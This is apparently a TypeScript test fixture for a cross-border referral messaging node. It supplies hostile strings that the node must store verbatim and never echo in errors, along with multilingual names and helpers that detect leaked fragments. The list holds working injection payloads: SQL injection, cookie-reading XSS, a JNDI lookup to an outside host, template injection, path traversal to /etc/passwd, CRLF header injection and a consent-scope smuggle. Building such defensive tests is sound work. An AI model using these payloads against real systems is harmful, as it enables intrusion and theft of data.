import { examplePayload } from '../../src/messages/examples';

/**
 * The hostile strings of the corpus. Every value here is something a stranger (another country's software,
 * a compromised partner system, a careless coordinator) can put in a text field; the node must store it
 * verbatim or refuse it cleanly, and never repeat it in an error.
 */

/** Injection attempts. Each is a valid string: a node stores it as text and nothing else happens. */
export const INJECTION_STRINGS: readonly string[] = [
  `'); DROP TABLE messages; --`,
  `' OR '1'='1' --`,
  `1; DELETE FROM cases WHERE '1'='1`,
  `<script>alert(1)</script>`,
  `"><img src=x onerror=alert(document.cookie)>`,
  '${jndi:ldap://x.example/a}',
  '{{7*7}} ${7*7} #{7*7} <%= 7*7 %>',
  '../../../../etc/passwd',
  'line one\r\nX-Injected: yes\r\n\r\nbody',
  '%s%s%s%n%x',
  '"},"consent":{"scopes":["ALL"]},"x":{"',
  String.raw`C:\Windows\System32 \u0000 \x00 %00`,
  '\u202Egpj.exe\u202C zero\u200Bwidth',
];

/**
 * Names that must cross the border intact: stored and read back byte for byte on the receiving node,
 * neither normalised (NFC/NFD), transliterated nor replaced.
 */
export const NAMES = {
  cyrillic: 'Ана Петровска',
  cyrillicFamily: 'Петровска',
  arabic: 'فاطمة الزهراء',
  vietnamese: 'Nguyễn Thị Hồng',
  /** The same name decomposed: a different byte sequence that must stay different. */
  vietnameseDecomposed: 'Nguyễn Thị Hồng'.normalize('NFD'),
  greek: 'Ελένη Παπαδοπούλου',
  albanian: 'Arbërie Krasniqi',
  astral: '𝔄𝔫𝔞 👩‍👧 Petrovska',
} as const;

/** Text PostgreSQL cannot store in `text` or `jsonb`: it must be refused cleanly, never a 500. */
export const UNSTORABLE = {
  nul: 'Ana\u0000Petrovska',
  loneSurrogate: 'Ana\uD800Petrovska',
} as const;

/** A marker that is easy to find if a node ever echoes it. */
export const SECRET_NAME = 'Zyxwvu Secretova';

/** The example referral's person (most corpus payloads start from it): her names and date of birth. */
const EXAMPLE_PERSON = examplePayload('REFERRAL_REQUEST').person;

/** Every string an error message, a rejection reason or a dead letter's reason must never contain. */
export const MUST_NOT_ECHO: readonly string[] = [
  ...INJECTION_STRINGS,
  ...Object.values(NAMES),
  ...Object.values(UNSTORABLE),
  SECRET_NAME,
  EXAMPLE_PERSON.familyName,
  ...(EXAMPLE_PERSON.otherNames ?? []),
  EXAMPLE_PERSON.dateOfBirth ?? '',
];

/**
 * Fragments of `text` long enough to be recognisable: a node that echoes even part of a value (Node's JSON
 * parser quotes the first 10 characters of bad input) is caught too.
 */
export function echoedFragments(text: string, secrets: readonly string[] = MUST_NOT_ECHO): string[] {
  const width = 10;
  const found = new Set<string>();
  for (const secret of secrets) {
    const windows =
      secret.length <= width
        ? [secret]
        : Array.from({ length: secret.length - width + 1 }, (_, i) => secret.slice(i, i + width));
    for (const window of windows) if (window.trim().length >= 4 && text.includes(window)) found.add(window);
  }
  return [...found];
}

/** JSON text nested `depth` levels deep, built as text: JSON.stringify itself overflows at ~10,000. */
export function deeplyNested(depth: number, kind: 'object' | 'array' = 'object'): string {
  return kind === 'object'
    ? '{"a":'.repeat(depth) + '1' + '}'.repeat(depth)
    : '['.repeat(depth) + ']'.repeat(depth);
}

export const ONE_MEGABYTE = 1024 * 1024;

/** A string of exactly `bytes` UTF-8 bytes (ASCII). */
export function longString(bytes: number): string {
  return 'A'.repeat(bytes);
}
